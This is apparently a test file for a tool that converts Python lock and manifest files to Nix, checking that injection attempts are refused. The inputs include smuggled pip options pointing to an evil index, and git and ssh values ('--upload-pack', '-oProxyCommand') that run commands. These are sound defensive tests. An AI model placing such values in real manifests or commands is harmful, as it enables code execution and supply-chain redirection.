// What fuzzing and attacks have found, each by the smallest input that had it.

import { describe, expect, test } from "vitest";
import type { Diagnostic } from "../../src/diagnostics.ts";
import { readPipfile } from "../../src/manifests/pipfile.ts";
import { readPipfileLock } from "../../src/manifests/pipfile-lock.ts";
import { readPylock } from "../../src/manifests/pylock.ts";
import { withoutCredentials } from "../../src/manifests/urls.ts";
import { readUvLock } from "../../src/manifests/uv-lock.ts";
import { formatSummary, PLAIN } from "../../src/report/summary.ts";
import { convertTexts } from "../support/conversion.ts";
import { messageOf as wholeMessageOf } from "../support/errors.ts";

/** The first line of an error, without its place. */
const messageOf = (run: () => unknown) =>
  wholeMessageOf(run)
    .split("\n", 1)[0]
    ?.replace(/^\S+:\d+(?::\d+)?: /, "");

const none = (): Diagnostic[] => [];

describe("a table where a value is wanted is an error, not a crash", () => {
  test("verify_ssl of a source in a Pipfile", () => {
    const { pipOptions } = readPipfile('[[source]]\nurl = "https://example.org"\nverify_ssl = {}\n', "Pipfile");
    expect(pipOptions.map(({ option, value }) => [option, value])).toEqual([["--trusted-host", "example.org"]]);
  });
  test("pipfile-spec of a Pipfile.lock", () => {
    expect(messageOf(() => readPipfileLock('{"_meta": {"pipfile-spec": {}}}', "Pipfile.lock", none()))).toBe(
      "this Pipfile.lock has pipfile-spec a table; py2nix reads 6",
    );
  });
  test("version of a uv.lock", () => {
    expect(messageOf(() => readUvLock("[version]\n", "uv.lock", none(), []))).toMatch(/^uv\.lock has version a table;/);
  });
});

test("a version in pylock.toml that is not in normal form is compared with that of its files", () => {
  const lock = (version: string) =>
    readPylock(
      `lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "a"\nversion = "${version}"\n[[packages.wheels]]\nname = "a-3-py3-none-any.whl"\nurl = "https://example.org/a"\nhashes = {sha256 = "00"}\n`,
      "pylock.toml",
      none(),
    ).packages.map((each) => each.version);
  expect(lock("3 ")).toEqual(["3"]);
  expect(messageOf(() => lock("6 "))).toBe("this file is of version 3, not 6");
});

describe("nothing becomes another line, an option or a comment for pip", () => {
  const poetry = (line: string) => convertTexts({ "pyproject.toml": `[tool.poetry.dependencies]\n${line}\n` });
  test.each([
    ["a name of Poetry's", '"--index-url https://evil.example.org/" = "*"'],
    ["one with a line end", '"a\\n--index-url" = "*"'],
    ["a URL", 'a = {url = "https://example.org/a.whl\\n--index-url https://evil.example.org/"}'],
    ["a URL with options", 'a = {url = "https://example.org/a.whl --config-settings=x"}'],
    ["a repository's branch", 'a = {git = "https://example.org/a", branch = "b\\n--pre"}'],
    ["a path", 'a = {path = "b\\r--pre"}'],
    ["an editable path", 'a = {path = "b\\n--pre", develop = true}'],
    ["a path with a comment", 'a = {path = "b #c"}'],
    ["a path that goes on in the next line", 'a = {path = "b\\\\"}'],
    ["a marker's text", `a = {version = "*", markers = "platform_version != ' --pre'"}`],
    ["a line end of Unicode", `a = {version = "*", markers = "platform_version != '\\u2028--pre'"}`],
  ])("%s", (_, line) => {
    expect(messageOf(() => poetry(line))).toMatch(/^(?:a requirements file cannot have|".*" is no name of a project)/s);
  });

  test("a name of a Pipfile's", () => {
    expect(messageOf(() => readPipfile('[packages]\n"-r x" = "*"\n', "Pipfile"))).toBe(
      '"-r x" is no name of a project',
    );
  });

  test("a hash of a lock", () => {
    const lock = `[[package]]\nname = "evil"\nversion = "1.0"\noptional = false\npython-versions = "*"\nfiles = [{file = "evil-1.0.tar.gz", hash = "sha256:00\\n--index-url https://evil.example.org/"}]\n[metadata]\nlock-version = "2.1"\npython-versions = "*"\ncontent-hash = "0"\n`;
    const files = { "pyproject.toml": '[tool.poetry.dependencies]\nevil = "*"\n', "poetry.lock": lock };
    expect(messageOf(() => convertTexts(files))).toMatch(/^a requirements file cannot have "sha256:00/);
  });

  test("an option's value with blanks stays one word, where pip still sees the option", () => {
    const { text } = convertTexts({ "requirements.txt": 'no-such-project --config-settings "a=b c"\n' });
    expect(text).toContain("\"no-such-project --config-settings='a=b c'\"");
  });

  const uv = (constraint: string) =>
    convertTexts({
      "pyproject.toml": `[project]\nname = "demo"\nversion = "1"\ndependencies = ["evil"]\n[tool.uv]\nconstraint-dependencies = [${constraint}]\n`,
    });
  test.each([
    ["a semicolon in a URL, which begins a marker", "a = {url = \"https://example.org/a;python_version<'0'\"}"],
    ["an extra that ends the extras", 'a = {version = "*", extras = ["b]@https://evil.example.org/a.whl"]}'],
    ["a reference that ends the repository's path", 'a = {git = "https://example.org/a", branch = "b@evil"}'],
    ["one with a fragment", 'a = {git = "https://example.org/a", branch = "b#subdirectory=evil"}'],
    ["one that is an option of git", 'a = {git = "https://example.org/a", rev = "--upload-pack=touch${IFS}x"}'],
    ["a host that is an option of ssh", 'a = {git = "ssh://-oProxyCommand=touch${IFS}x/a"}'],
    ["a subdirectory with a name", 'a = {git = "https://example.org/a", subdirectory = "b&egg=other"}'],
    ["a semicolon in the path of a file", 'a = {file = "b;c/a-1.0-py3-none-any.whl"}'],
  ])("%s is refused, with its place", (_, line) => {
    expect(wholeMessageOf(() => poetry(line))).toMatch(/^pyproject\.toml:2(?::\d+)?: a requirements file cannot have/);
  });
  test("a backslash at the end of a constraint is refused, with its place", () => {
    expect(wholeMessageOf(() => uv("'evil===1\\'"))).toMatch(
      /^pyproject\.toml:6(?::\d+)?: a requirements file cannot have/,
    );
  });
});

describe("a comparison with a set that is not defined", () => {
  test.each([
    [`'"" === extras'`, "`===` is not defined for `extras`"],
    [`'"a" ~= dependency_groups'`, "`~=` is not defined for `dependency_groups`"],
    [`'"a" in extras or extras === "a"'`, "`extras` can only stand on the right of `in`"],
  ])("in the marker %s of a lock is an error with its place", (marker, message) => {
    const lock = (needs: string) =>
      `lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "a"\nversion = "1"\nmarker = ${marker}\n${needs}[[packages.wheels]]\nurl = "https://example.org/a-1-py3-none-any.whl"\nhashes = {sha256 = "00"}\n`;
    for (const needs of ["", 'dependencies = [{name = "b"}]\n[packages.tool.pdm]\ndependencies = ["c"]\n'])
      expect(wholeMessageOf(() => convertTexts({ "pylock.toml": lock(needs) }))).toMatch(/^pylock\.toml:\d+:\d+: /);
    expect(wholeMessageOf(() => convertTexts({ "pylock.toml": lock("") }))).toContain(
      `pylock.toml:3:1: a marker here cannot be evaluated: ${message}`,
    );
  });
});

describe("what looks like more credentials behind those that are taken away", () => {
  test.each([
    ["https://u@:s//user:s//user{:secret@example.org/simple", "https://example.org/simple"],
    ["https://t@example.org:sechttps://ret@example.", "https://example."],
    [`https://${"u:p/x@".repeat(20)}example.org/a`, "https://example.org/a"],
  ])("is taken away, too: %s", (url, clean) => {
    expect(withoutCredentials(url)).toEqual({ url: clean, removed: true });
  });
});

describe("a terminal, and who reads the file, see every character", () => {
  const marked = (text: string) =>
    convertTexts({ "requirements.txt": `no-such-project ; platform_version != "${text}"\n` });
  test("what is not seen stands as JSON in the Nix file", () => {
    const { text } = marked("a\u202e\u{e0041}b");
    expect(text).toContain(
      '"no-such-project ; platform_version != \\"a${builtins.fromJSON "\\"\\\\u202e\\\\udb40\\\\udc41\\""}b\\""',
    );
  });
  test("a range of Python with a separator at its end is told on one line", () => {
    const table = { "pyproject.toml": '[project]\nname = "a"\nversion = "1"\nrequires-python = ">=3.9\\u001e"\n' };
    expect(formatSummary(convertTexts(table).plan, PLAIN)).toMatch(/^Python 3\.13\.7 \(.*>=3\.9\\u\{1e\}\)$/m);
  });
});
